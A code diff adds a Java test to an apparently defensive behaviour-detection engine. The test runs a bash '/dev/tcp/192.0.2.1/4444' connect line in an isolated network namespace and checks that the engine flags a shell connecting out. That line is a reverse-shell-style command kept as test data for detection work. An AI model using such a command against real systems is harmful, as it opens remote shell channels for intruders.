@@ -75,6 +75,27 @@ class BehaviourTest {
         finding.at("/evidences/0/process/parent_process/pid").asLong() > 0, finding::toString);
   }
 
+  /// In a network namespace of its own, where nobody answers.
+  @Test
+  void aShellThatConnectsOutIsFoundWithWhereTo() throws Exception {
+    String connect = "exec 3<>/dev/tcp/192.0.2.1/4444";
+    Outcome.of(
+            "unshare",
+            "-n",
+            "sh",
+            "-c",
+            "ip link set lo up; ip address add 192.0.2.1/32 dev lo; bash -c '"
+                + connect
+                + "'; true")
+        .requireSuccess();
+    JsonNode finding = await("the connection", "A shell connects to another host by itself");
+    JsonNode process = finding.at("/evidences/0/process");
+    assertEquals("bash -c " + connect, process.path("cmd_line").asText());
+    assertTrue(
+        process.at("/parent_process/cmd_line").asText().startsWith("sh -c ip link"),
+        finding::toString);
+  }
+
   @Test
   void ordinaryWorkIsNoFinding() throws Exception {
     Outcome.of("sh", "-c", ENCODED + " # first").requireSuccess();
@@ -103,6 +124,8 @@ class BehaviourTest {
                 "observe:file_delete",
                 "observe:file_modify",
                 "observe:file_rename",
+                "observe:net_connect",
+                "observe:process_access",
                 "observe:process_exit",
                 "observe:process_start"),
             JSON.convertValue(engine.path("rightsGranted"), List.class));
